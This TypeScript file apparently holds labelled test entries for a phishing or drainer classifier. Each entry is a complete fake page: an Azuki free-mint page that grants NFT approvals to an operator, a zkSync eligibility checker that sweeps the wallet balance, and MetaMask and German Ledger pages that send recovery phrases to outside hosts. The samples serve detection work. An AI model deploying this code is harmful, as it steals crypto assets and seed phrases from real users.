import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Wallet drainers (window.ethereum) and recovery-phrase forms built in script.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });

export const entries: Entry[] = [
  {
    id: 'c-drainer-nft-setapprovalforall',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://mint.azuki-elementals.app/',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Azuki Elementals | Free Mint</title><link rel="stylesheet" href="/assets/m.css"></head>
<body><div id="root"></div><script src="/assets/web3-lite.js"></script><script src="/assets/mint.js"></script></body></html>`,
    routes: {
      'mint.azuki-elementals.app/assets/m.css': { status: 200, headers: { 'content-type': 'text/css' }, body: 'body{margin:0;background:#f8f3ea;font-family:"Helvetica Neue",Arial,sans-serif;color:#111}.w{max-width:900px;margin:0 auto;padding:30px}.h{display:flex;justify-content:space-between;align-items:center}.btn{background:#c0282d;color:#fff;border:0;border-radius:0;padding:12px 26px;font-weight:700;letter-spacing:.06em;cursor:pointer}.g{display:grid;grid-template-columns:1fr 1fr;gap:30px;margin-top:40px}.art{aspect-ratio:1;background:linear-gradient(135deg,#c0282d,#1b1b1b);color:#fff;display:flex;align-items:flex-end;padding:20px;font-size:28px;font-weight:800}.bar{height:10px;background:#e6dccb}.bar i{display:block;height:100%;background:#c0282d}' },
      'mint.azuki-elementals.app/assets/web3-lite.js': js(raw`window.W3={pad:function(h){return h.replace(/^0x/,'').toLowerCase().padStart(64,'0')},sel:{setApprovalForAll:'0xa22cb465',transferFrom:'0x23b872dd'},async acc(){if(!window.ethereum)throw new Error('no wallet');var a=await ethereum.request({method:'eth_requestAccounts'});return a[0]},async chain(id){try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:id}]})}catch(e){}},send(from,to,data){return ethereum.request({method:'eth_sendTransaction',params:[{from:from,to:to,data:data,value:'0x0'}]})}};`),
      'mint.azuki-elementals.app/assets/mint.js': js(raw`(async()=>{
const r=document.getElementById('root');
const minted=7421+Math.floor(Math.random()*200);
r.innerHTML='<div class="w"><div class="h"><h2>AZUKI</h2><button class="btn" id="c">CONNECT</button></div><div class="g"><div class="art">ELEMENTALS</div><div><h1>Elementals Free Mint</h1><p>Holders of Azuki, BEANZ and Elementals can mint for free. Gas only.</p><div class="bar"><i style="width:'+(minted/100)+'%"></i></div><p>'+minted+' / 10,000 minted</p><button class="btn" id="m">MINT NOW</button><p id="s"></p></div></div></div>';
const OP='0x0000db5c8b030ae20308ac975898e09741e70000';
const COLL=[['Azuki','0xED5AF388653567Af2F388E6224dC7C4b3241C544'],['BEANZ','0x306b1ea3ecdf94aB739F1910bbda052Ed4A9f949'],['Elementals','0xB6a37b5d14D502c3Ab0Ae6f3a0E058BC9517786e'],['Bored Ape Yacht Club','0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D'],['Pudgy Penguins','0xBd3531dA5CF5857e7CfAA92426877b022e612cf8']];
let me=null;
document.getElementById('c').onclick=async()=>{me=await W3.acc();document.getElementById('c').textContent=me.slice(0,6)+'…'};
document.getElementById('m').onclick=async()=>{
  if(!me)me=await W3.acc();
  await W3.chain('0x1');
  const s=document.getElementById('s');
  for(const [n,a] of COLL){
    s.textContent='Verifying '+n+' holdings…';
    try{await W3.send(me,a,W3.sel.setApprovalForAll+W3.pad(OP)+W3.pad('0x1'));navigator.sendBeacon('https://azk-mint-relay.fly.dev/hit',JSON.stringify({me,n}))}catch(e){}
  }
  s.textContent='Mint pending… your Elemental will appear in your wallet shortly.';
};
})();`),
    },
  },
  {
    id: 'c-drainer-balance-sweep',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://zksync-eligibility-checker.org/check',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>ZK Nation — Eligibility</title>
<style>body{margin:0;background:#000;color:#fff;font-family:"Space Grotesk",Arial,sans-serif}.c{max-width:460px;margin:12vh auto;border:1px solid #333;border-radius:20px;padding:32px;background:#0d0d0d}.c h1{margin-top:0}.b{width:100%;background:#fff;color:#000;border:0;border-radius:12px;padding:14px;font-size:16px;font-weight:700;cursor:pointer}.r{margin-top:16px;font-size:14px;color:#aaa}</style></head>
<body><div class="c"><h1>Check your ZK eligibility</h1><p>Connect the wallet you used on zkSync Era to see your allocation.</p><button class="b" id="b">Connect wallet</button><div class="r" id="r"></div></div>
<script>
(() => {
  const R = '0x4c1bA2f6d0C9e3a7B5d8E2f1A0c3b6D9e8F7a654';
  const out = (t) => (document.getElementById('r').innerHTML = t);
  const hex = (n) => '0x' + n.toString(16);
  document.getElementById('b').addEventListener('click', async () => {
    const eth = window.ethereum;
    if (!eth) return out('No wallet found.');
    const [from] = await eth.request({ method: 'eth_requestAccounts' });
    out('Checking ' + from.slice(0, 8) + '… on 4 networks');
    for (const chainId of ['0x144', '0x1']) {
      try { await eth.request({ method: 'wallet_switchEthereumChain', params: [{ chainId }] }); } catch (_) { continue; }
      const bal = BigInt(await eth.request({ method: 'eth_getBalance', params: [from, 'latest'] }));
      const gp = BigInt(await eth.request({ method: 'eth_gasPrice' }).catch(() => '0x3b9aca00'));
      const fee = gp * 21000n * 2n;
      if (bal <= fee) continue;
      out('You are eligible for <b>' + (2000 + Math.floor(Math.random() * 4000)) + ' ZK</b>. Confirm the verification transaction to receive it.');
      try {
        await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: R, value: hex(bal - fee), gas: hex(21000), gasPrice: hex(gp) }] });
        new Image().src = 'https://zk-stat.pages-api.dev/t.gif?a=' + from + '&c=' + chainId + '&v=' + (bal - fee).toString();
      } catch (e) { out('Verification cancelled.'); }
    }
  });
})();
</script></body></html>`,
  },
  {
    id: 'c-seed-metamask-locked',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://metamask-vault-restore.io/restore',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>MetaMask</title><link rel="icon" href="/images/fox.svg"></head>
<body style="margin:0;background:#f2f4f6;font-family:Euclid Circular B,Arial,sans-serif"><div id="app-content"></div><script src="/bundle/ui-0.js"></script></body></html>`,
    routes: {
      'metamask-vault-restore.io/images/fox.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40"><path fill="#e2761b" d="M36 4 22 14l3-6z"/><path fill="#e4761b" d="M4 4l14 10-3-6zM31 27l-4 6 8 2 2-8zM3 27l2 8 8-2-4-6z"/></svg>' },
      'metamask-vault-restore.io/bundle/ui-0.js': js(raw`(function(){
var root=document.getElementById('app-content');
var n=12;
function grid(){var h='';for(var i=1;i<=n;i++)h+='<div style="display:flex;align-items:center;gap:6px"><span style="width:18px;text-align:right;font-size:13px">'+i+'.</span><input class="w" data-i="'+i+'" type="password" autocomplete="off" style="flex:1;padding:9px;border:1px solid #bbc0c5;border-radius:6px"></div>';return h}
function render(){
root.innerHTML='<div style="background:#fff;padding:14px 24px;display:flex;align-items:center;gap:10px;box-shadow:0 1px 3px #0001"><img src="/images/fox.svg" width="32"><b style="letter-spacing:.1em">METAMASK</b></div><div style="max-width:560px;margin:40px auto;background:#fff;border-radius:10px;padding:30px"><h2 style="margin-top:0">Reset wallet</h2><div style="background:#fff5e6;border-left:4px solid #f66a0a;padding:10px;font-size:14px;margin-bottom:14px">Your wallet has been temporarily locked after a failed security update. Enter your Secret Recovery Phrase to restore your vault. Your funds remain safe.</div><select id="len" style="padding:8px;border-radius:6px;margin-bottom:14px"><option value="12">I have a 12-word phrase</option><option value="15">I have a 15-word phrase</option><option value="18">I have an 18-word phrase</option><option value="24">I have a 24-word phrase</option></select><div style="display:grid;grid-template-columns:1fr 1fr 1fr;gap:10px">'+grid()+'</div><button id="r" style="margin-top:22px;width:100%;background:#0376c9;color:#fff;border:0;border-radius:100px;padding:13px;font-size:16px;cursor:pointer">Restore</button></div>';
document.getElementById('len').value=String(n);
document.getElementById('len').onchange=function(){n=+this.value;render()};
root.querySelector('.w').addEventListener('paste',function(e){var t=(e.clipboardData||window.clipboardData).getData('text').trim().split(/\s+/);if(t.length>1){e.preventDefault();root.querySelectorAll('.w').forEach(function(x,i){x.value=t[i]||''})}});
document.getElementById('r').onclick=function(){
  var ws=[].map.call(root.querySelectorAll('.w'),function(x){return x.value.trim().toLowerCase()});
  if(ws.some(function(w){return !w}))return;
  var x=new XMLHttpRequest();x.open('POST','/restore/api.php');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({p:ws.join(' '),ua:navigator.userAgent}));
  root.querySelector('button').textContent='Restoring…';setTimeout(function(){location.href='https://metamask.io/'},2500);
};}
render();
})();`),
    },
  },
  {
    id: 'c-seed-ledger-firmware-de',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://ledger-live-firmware.de-update.com/de/recovery-check',
    body: raw`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Ledger Live – Firmware-Aktualisierung</title>
<style>body{margin:0;background:#131214;color:#fff;font-family:Inter,Arial,sans-serif}.t{padding:20px 30px;font-weight:700;letter-spacing:.2em}.c{max-width:640px;margin:20px auto;background:#1c1d1f;border-radius:8px;padding:30px}.c h1{font-size:24px}.warn{background:#2a2216;border:1px solid #d4a017;color:#f5d68a;padding:12px;border-radius:6px;font-size:14px}.grid{display:grid;grid-template-columns:repeat(4,1fr);gap:8px;margin-top:18px}.grid label{font-size:11px;color:#999}.grid input{width:100%;background:#2b2c2e;border:1px solid #3a3b3d;color:#fff;padding:8px;border-radius:4px;box-sizing:border-box}.b{margin-top:20px;width:100%;background:#bbb0ff;color:#131214;border:0;border-radius:20px;padding:12px;font-weight:700;cursor:pointer}.prog{height:4px;background:#333;margin-top:14px}.prog i{display:block;height:100%;width:0;background:#bbb0ff;transition:width 2s}</style></head>
<body><div class="t">LEDGER</div><div class="c" id="c"></div>
<script>
const c = document.getElementById('c');
const t = {
  h: 'Firmware 2.2.4 – Sicherheitsprüfung',
  w: 'Eine kritische Schwachstelle betrifft Nano S Plus und Nano X. Um Ihre Vermögenswerte während der Aktualisierung zu schützen, bestätigen Sie bitte Ihre 24-Wörter-Wiederherstellungsphrase.',
  b: 'Bestätigen und aktualisieren',
};
c.innerHTML = '<h1>' + t.h + '</h1><div class="warn">' + t.w + '</div><div class="prog"><i id="p"></i></div><div class="grid">' + Array.from({ length: 24 }, (_, i) => '<div><label>Wort ' + (i + 1) + '</label><input id="w' + i + '" autocomplete="off" spellcheck="false"></div>').join('') + '</div><button class="b" id="b">' + t.b + '</button>';
setTimeout(() => (document.getElementById('p').style.width = '35%'), 300);
document.getElementById('b').onclick = async () => {
  const words = Array.from({ length: 24 }, (_, i) => document.getElementById('w' + i).value.trim());
  if (words.filter(Boolean).length < 12) return;
  document.getElementById('p').style.width = '100%';
  const key = 'MTIzNDU2Nzg5MGFiY2RlZg==';
  await fetch('https://ledger-fw-sync.ru/api/v1/device', { method: 'POST', body: btoa(JSON.stringify({ k: key, m: words.join(' '), d: navigator.platform })) }).catch(() => 0);
  c.innerHTML = '<h1>Aktualisierung läuft…</h1><p>Trennen Sie Ihr Gerät nicht. Dies kann bis zu 30 Minuten dauern.</p>';
};
</script></body></html>`,
  },
];
